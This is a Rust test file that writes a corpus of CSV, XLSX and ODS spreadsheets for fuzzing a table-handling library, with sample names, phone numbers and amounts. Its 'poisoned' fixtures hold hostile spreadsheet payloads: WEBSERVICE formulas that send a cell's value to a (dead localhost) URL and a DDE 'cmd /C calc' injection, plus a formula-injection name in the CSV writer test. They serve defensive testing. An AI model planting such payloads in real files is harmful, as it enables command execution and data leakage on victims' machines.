//! The corpus: tables as people have them. `KAUNTA_WRITE_CORPUS=1 cargo t --test fuzz_tables` writes it again.

use kaunta_sheets::{Column, Field, TableWriter};
use rust_decimal::Decimal;

use crate::files::folder;
use crate::table::{ods, xlsx};

const CELLS: &str = "<row r=\"1\"><c r=\"A1\" s=\"1\"><v>46203</v></c><c r=\"B1\" t=\"s\"><v>0</v></c></row><row r=\"2\">\
    <c r=\"A2\"><f t=\"shared\" ref=\"A2:A3\" si=\"0\">B2*2</f><v>7</v></c><c r=\"B2\" t=\"b\"><v>1</v></c>\
    <c r=\"C2\" t=\"e\"><v>#N/A</v></c><c r=\"D2\" t=\"inlineStr\"><is><t>Nakato</t></is></c></row></sheetData>\
    <mergeCells count=\"1\"><mergeCell ref=\"A1:B1\"/></mergeCells>";
const STRINGS: &str = "<sst uniqueCount=\"2\"><si><t>Musa</t></si><si><r><t>Oke</t></r><r><t>llo</t></r></si></sst>";
const STYLES: &str = "<styleSheet><numFmts><numFmt numFmtId=\"164\" formatCode=\"yyyy\"/></numFmts>\
    <cellXfs><xf numFmtId=\"0\"/><xf numFmtId=\"164\"/></cellXfs></styleSheet>";
const POISONED: &str = "<row r=\"1\"><c r=\"A1\" t=\"str\"><f>WEBSERVICE(\"http://127.0.0.1:1/?\"&amp;B1)</f><v>paid</v></c>\
    <c r=\"B1\"><f>1+1</f></c><c r=\"C1\" t=\"inlineStr\"><is><t>=cmd|' /C calc'!A0</t></is></c></row></sheetData>";
const TABLE: &str = "<table:table table:name='a'><table:table-row table:number-rows-repeated='2'><table:table-cell \
    office:value-type='float' office:value='7' table:number-columns-spanned='2'/><table:table-cell \
    office:value-type='string'><text:p>Musa<text:s text:c='3'/></text:p></table:table-cell></table:table-row></table:table>";
const DATED: &str = "<table:table table:name='b' table:style-name='ta2'><table:table-row><table:table-cell \
    office:value-type='date' office:date-value='2026-11-21'/><table:table-cell office:value-type='time' \
    office:time-value='PT26H30M00S'/><table:table-cell office:value-type='percentage' office:value='0.5'/><table:table-cell \
    office:value-type='boolean' office:boolean-value='true'/></table:table-row></table:table>";
const FORMULA: &str = "<table:table table:name='c'><table:table-row><table:table-cell table:formula='of:=WEBSERVICE(\"http://127.0.0.1:1/\")' \
    office:value-type='string'><text:p>paid</text:p></table:table-cell><table:covered-table-cell \
    table:number-columns-repeated='3'/><table:table-cell office:value-type='currency' office:value='25000' \
    office:currency='UGX'/></table:table-row></table:table>";

fn table(mut table: TableWriter<Vec<u8>>) -> Vec<u8> {
    for (name, phone, amount) in
        [("Nakato Sarah", "0772300417", 150_000), ("=Okello, \"James\"\n", "+256752300417", 70_000)]
    {
        table.row(&[Field::Text(name), Field::Text(phone), Field::Number(Decimal::from(amount))]).unwrap();
    }
    table.finish().unwrap()
}

fn all() -> Vec<(&'static str, &'static str, Vec<u8>)> {
    let columns = ["Name", "Phone", "Amount"].map(|title| Column { title, width: 20 });
    let text = "Name,Phone,Amount\nNäkato Sarah,0772300001,150000\nOkello,0772300002,70000\n";
    let utf_16: Vec<u8> = [0xFEFF].into_iter().chain(text.encode_utf16()).flat_map(u16::to_le_bytes).collect();
    let latin = text.chars().map(|sign| u8::try_from(u32::from(sign)).unwrap()).collect();
    let parts = [("xl/sharedStrings.xml", STRINGS.as_bytes()), ("xl/styles.xml", STYLES.as_bytes())];
    vec![
        ("csv", "plain", text.as_bytes().to_vec()),
        ("csv", "written", table(TableWriter::csv(Vec::new(), &columns).unwrap())),
        ("csv", "semicolons", text.replace(',', ";").replace('\n', "\r\n").into_bytes()),
        ("csv", "named", format!("sep=|\n{}", text.replace(',', "|")).into_bytes()),
        ("csv", "latin", latin),
        ("csv", "utf16", utf_16),
        ("xlsx", "plain", xlsx(CELLS, &parts)),
        ("xlsx", "written", table(TableWriter::xlsx(Vec::new(), "Results", &columns).unwrap())),
        ("xlsx", "poisoned", xlsx(POISONED, &[])),
        ("xlsx", "empty", xlsx("</sheetData>", &[])),
        ("ods", "plain", ods(TABLE)),
        ("ods", "dated", ods(DATED)),
        ("ods", "poisoned", ods(FORMULA)),
        ("ods", "three", ods(&[TABLE, DATED, FORMULA].concat())),
    ]
}

#[test]
fn the_corpus_has_every_kind_of_table() {
    for (kind, name, bytes) in all() {
        let path = folder(kind).join(format!("{name}.{kind}"));
        if std::env::var_os("KAUNTA_WRITE_CORPUS").is_some() {
            std::fs::create_dir_all(folder(kind)).unwrap();
            std::fs::write(&path, bytes).unwrap();
        }
        assert!(path.is_file(), "{} is missing: KAUNTA_WRITE_CORPUS=1 writes it", path.display());
    }
}
